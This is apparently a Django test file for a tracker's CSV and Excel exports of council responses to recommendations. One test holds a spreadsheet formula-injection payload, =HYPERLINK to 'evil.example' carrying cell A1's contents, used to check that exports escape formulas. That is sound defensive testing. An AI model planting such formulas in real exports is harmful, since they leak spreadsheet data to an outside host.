"""Exports of responses to CSV and Excel."""

import csv
import datetime
import io

import openpyxl
from django.urls import reverse

from recommendations.models import Recommendation
from responses.exports import COLUMNS, TEMPLATE_COLUMNS, safe_cell, unquote_cell
from responses.models import Assurance, LocalResponse, Rag, Status

from .helpers import normalise
from .varied import R6_LEAD_OFFICER, R24_ORIGINAL_TARGET, R24_REASON, varied_data  # noqa: F401


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_exports_keep_every_column_and_add_the_short_title_after_the_number():
    assert COLUMNS == [
        "Council",
        "Recommendation",
        "Part",
        "Short title",
        "Theme",
        "Recommendation text",
        "Status",
        "RAG",
        "Assurance",
        "Lead officer",
        "Original target date",
        "Target date",
        "Reason target date moved",
        "Last update",
        "Response",
    ]


def test_central_bedfordshire_csv_has_a_row_for_every_recommendation_and_part_with_its_verbatim_text(
    officer_client,
):
    rows = read_csv(
        officer_client.get(reverse("responses:council_export", args=["central-bedfordshire", "csv"]))
    )
    # A council's export is its import template: the columns people read, then the template's own.
    assert rows[0] == TEMPLATE_COLUMNS
    body = rows[1:]
    assert len(body) == 69  # 58, with 2 and 19 answered part by part (10 and 3 parts)
    keys = [(int(row[1]), row[2]) for row in body]
    expected = [(n, "") for n in range(1, 59) if n not in (2, 19)]
    expected += [(2, letter) for letter in "abcdefghij"] + [(19, letter) for letter in "abc"]
    assert sorted(keys) == sorted(expected)
    response_column = COLUMNS.index("Response")
    for response in LocalResponse.objects.filter(authority__slug="central-bedfordshire").select_related(
        "part"
    ):
        key = (response.recommendation.number, response.part.letter if response.part else "")
        row = body[keys.index(key)]
        assert normalise(row[response_column]) == normalise(response.text)
        assert row[COLUMNS.index("Status")] == response.get_status_display()
    rec_12 = body[keys.index((12, ""))]
    assert rec_12[COLUMNS.index("Recommendation text")] == Recommendation.objects.get(number=12).text
    assert rec_12[COLUMNS.index("Theme")] == "Support for children"
    assert rec_12[COLUMNS.index("Short title")] == "Safeguarding in accident and emergency"
    assert body[keys.index((19, "c"))][COLUMNS.index("Short title")] == "Resolving professional disagreements"


def test_a_council_export_names_recommendations_it_has_not_answered(officer_client):
    rows = read_csv(
        officer_client.get(reverse("responses:council_export", args=["stockton-on-tees", "csv"]))
    )[1:]
    assert len(rows) == 58
    assert sum(1 for row in rows if row[COLUMNS.index("Status")] == "No response recorded") == 54


def test_excel_export_holds_the_same_rows(officer_client):
    response = officer_client.get(reverse("responses:council_export", args=["central-bedfordshire", "xlsx"]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == TEMPLATE_COLUMNS
    assert len(rows) == 70
    assert rows[1][1] == 1
    assert rows[1][COLUMNS.index("Short title")] == "Joint strategic priorities across government"


def test_exports_are_safe_against_spreadsheet_formulas(officer_client, officer_darlington):
    response = LocalResponse.objects.get(authority__slug="darlington", recommendation__number=51)
    LocalResponse.objects.filter(pk=response.pk).update(
        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        lead_officer="+44 1325 388 000",
        evidence="@SUM(1)",
    )
    rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
    row = next(r for r in rows[1:] if r[1] == "51")
    assert row[COLUMNS.index("Response")].startswith("'=HYPERLINK")
    assert row[COLUMNS.index("Lead officer")] == "'+44 1325 388 000"

    # In Excel the text is a text cell, which is never run, and comes back as it was: no apostrophe
    # (which would come back on re-import). Excel's quote prefix keeps it text if the cell is edited.
    xlsx = officer_client.get(reverse("responses:council_export", args=["darlington", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    row = next(r for r in sheet.iter_rows() if r[1].value == 51)
    cell = row[COLUMNS.index("Response")]
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert cell.quotePrefix
    assert row[COLUMNS.index("Lead officer")].value == "+44 1325 388 000"


def test_safe_cell_escapes_every_formula_start_and_reading_back_takes_off_only_that():
    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
        assert unquote_cell(safe_cell(f"{start}1+1")) == f"{start}1+1"
    assert safe_cell("Plain text") == "Plain text"
    assert safe_cell("It's plain") == "It's plain"
    assert unquote_cell("'quoted' word") == "'quoted' word"
    assert safe_cell(None) == ""


def test_filtered_list_exports_only_what_the_filters_show(officer_client):
    url = reverse("responses:export", args=["csv"]) + "?status=partner_agency"
    rows = read_csv(officer_client.get(url))[1:]
    assert len(rows) == LocalResponse.objects.filter(status=Status.PARTNER_AGENCY).count()
    assert {row[COLUMNS.index("Status")] for row in rows} == {"A matter for a partner agency"}


def test_export_with_bad_filters_answers_400_with_the_reason(officer_client):
    response = officer_client.get(reverse("responses:export", args=["csv"]) + "?status=finished")
    assert response.status_code == 400
    assert b"status" in response.content


def test_export_in_an_unknown_format_is_not_found(officer_client):
    assert officer_client.get(reverse("responses:export", args=["pdf"])).status_code == 404
    assert officer_client.get("/authorities/darlington/responses.doc").status_code == 404


# With varied data (tests/varied.py): Darlington's responses hold every status and RAG, moved and
# unmoved target dates, updates from the service and from the source documents, and recommendation 2
# answered part by part; Testshire has no responses.


def expected_row(authority, recommendation, part, response):
    """Every column of an export row, read from the records themselves."""
    text = part.text if part else recommendation.text
    common = [
        authority.name,
        str(recommendation.number),
        part.letter if part else "",
        part.short_title if part else recommendation.short_title,
        recommendation.theme.name,
    ]
    if response is None:
        return common + [text, "No response recorded"] + [""] * 8
    latest = max(response.updates.all(), key=lambda u: (u.dated or datetime.date.min, u.created_at))
    return common + [
        text,
        dict(Status.choices)[response.status],
        dict(Rag.choices)[response.rag],
        dict(Assurance.choices)[response.assurance],
        response.lead_officer,
        response.original_target_date.isoformat() if response.original_target_date else "",
        response.target_date.isoformat() if response.target_date else "",
        response.target_date_reason,
        latest.dated.isoformat() if latest.dated else latest.date_wording,
        response.text,
    ]


def keyed(rows):
    return {(row[1], row[2]): row for row in rows}


def test_council_export_gives_every_column_of_each_response_and_each_part(officer_client, varied):
    rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
    assert rows[0] == TEMPLATE_COLUMNS
    # 57 recommendations a row each, and recommendation 2 a row for each of its ten parts.
    assert len(rows[1:]) == 57 + 10
    # After the columns people read: an empty progress note, the row's identity and its version.
    for row in rows[1:]:
        key = f"{row[1]}({row[2]})" if row[2] else row[1]
        response = LocalResponse.objects.filter(
            authority=varied.darlington, recommendation__number=int(row[1]), part__letter=row[2] or None
        ).first()
        assert row[len(COLUMNS) :] == (
            ["", "darlington", key, str(response.pk), str(response.version)]
            if response
            else ["", "darlington", key, "", "0"]
        )
    by_key = keyed(row[: len(COLUMNS)] for row in rows[1:])
    two = Recommendation.objects.get(number=2)
    for recommendation in Recommendation.objects.prefetch_related("parts"):
        parts = list(recommendation.parts.all()) if recommendation.number == 2 else [None]
        for part in parts:
            response = LocalResponse.objects.filter(
                authority=varied.darlington, recommendation=recommendation, part=part
            ).first()
            key = (str(recommendation.number), part.letter if part else "")
            assert by_key[key] == expected_row(varied.darlington, recommendation, part, response), key

    # The same, written out for a few rows.
    yesterday, today = varied.day(-1).isoformat(), varied.today.isoformat()
    undated = "Undated; after the Action Plan (the report says 11/5/09) and before June 2009"
    status_to_last_update = slice(COLUMNS.index("Status"), COLUMNS.index("Last update") + 1)
    assert by_key[("6", "")][status_to_last_update] == [
        "Not started",
        "Red",
        "Not requested",
        R6_LEAD_OFFICER,
        "",
        yesterday,
        "",
        today,  # Darlington's reference data does not answer 6: tests/varied.py does, today
    ]
    assert by_key[("24", "")][:4] == [
        "Darlington Borough Council",
        "24",
        "",
        "Children's social work workforce",
    ]
    assert by_key[("24", "")][status_to_last_update] == [
        "Awaiting national guidance or action",
        "Red",
        "Not requested",
        "",
        R24_ORIGINAL_TARGET.isoformat(),
        yesterday,
        R24_REASON,
        undated,
    ]
    assert by_key[("19", "")][COLUMNS.index("RAG")] == "Not rated"
    # 53 has an undated update from the source document and one made in the tracker today.
    assert by_key[("53", "")][COLUMNS.index("Last update")] == today
    assert by_key[("2", "a")] == [
        "Darlington Borough Council",
        "2",
        "a",
        "Timescales for implementing the recommendations",
        "Leadership and accountability",
        two.parts.get(letter="a").text,
        "Complete",
        "Green",
        "Not requested",
        "Lead for part (a)",
        yesterday,
        yesterday,
        "",
        today,  # the service's update, made today: "Last update" is never blank where one exists
        "Darlington's answer to part (a).",
    ]
    assert [by_key[("2", letter)][COLUMNS.index("Status")] for letter in "abcd"] == [
        "Complete",
        "In progress",
        "Not started",
        "No response recorded",
    ]
    assert by_key[("2", "c")][COLUMNS.index("RAG")] == "Not rated"
    assert ("2", "") not in by_key
    assert by_key[("1", "")][COLUMNS.index("Status") :] == ["No response recorded"] + [""] * 8


def test_council_export_of_a_council_with_no_responses_names_every_recommendation(officer_client, varied):
    rows = read_csv(officer_client.get(reverse("responses:council_export", args=["testshire", "csv"])))[1:]
    assert [int(row[1]) for row in rows] == list(range(1, 59))
    assert {row[0] for row in rows} == {"Testshire County Council"}
    assert {row[COLUMNS.index("Status")] for row in rows} == {"No response recorded"}


def test_excel_council_export_holds_the_same_rows_as_the_csv(officer_client, varied):
    csv_rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
    xlsx = officer_client.get(reverse("responses:council_export", args=["darlington", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    # Target dates are real dates in Excel (2009-06-30 in the CSV).
    xlsx_rows = [
        [
            "" if v is None else v.date().isoformat() if isinstance(v, datetime.datetime) else str(v)
            for v in row
        ]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert xlsx_rows == csv_rows
    dates = [COLUMNS.index("Original target date"), COLUMNS.index("Target date")]
    assert {type(row[i].value) for row in sheet.iter_rows(min_row=2) for i in dates} == {
        datetime.datetime,
        type(None),
    }
    assert all(row[i].is_date for row in sheet.iter_rows(min_row=2) for i in dates if row[i].value)


def test_filtered_export_gives_every_column_of_the_responses_shown(officer_client, varied):
    url = reverse("responses:export", args=["csv"]) + "?council=darlington&overdue=yes"
    rows = read_csv(officer_client.get(url))
    assert rows[0] == COLUMNS
    assert [(row[1], row[2]) for row in rows[1:]] == [("2", "b"), ("6", ""), ("24", "")]
    for row in rows[1:]:
        response = LocalResponse.objects.get(
            authority=varied.darlington, recommendation__number=int(row[1]), part__letter=row[2] or None
        )
        assert row == expected_row(varied.darlington, response.recommendation, response.part, response)
    assert rows[1][COLUMNS.index("Last update")] == varied.today.isoformat()

    rows = read_csv(officer_client.get(reverse("responses:export", args=["csv"]) + "?rag=red"))[1:]
    assert len(rows) == LocalResponse.objects.filter(rag=Rag.RED).count() == 3
    rows = read_csv(officer_client.get(reverse("responses:export", args=["csv"])))[1:]
    assert len(rows) == LocalResponse.objects.count()
    assert all(row[COLUMNS.index("Last update")] for row in rows)
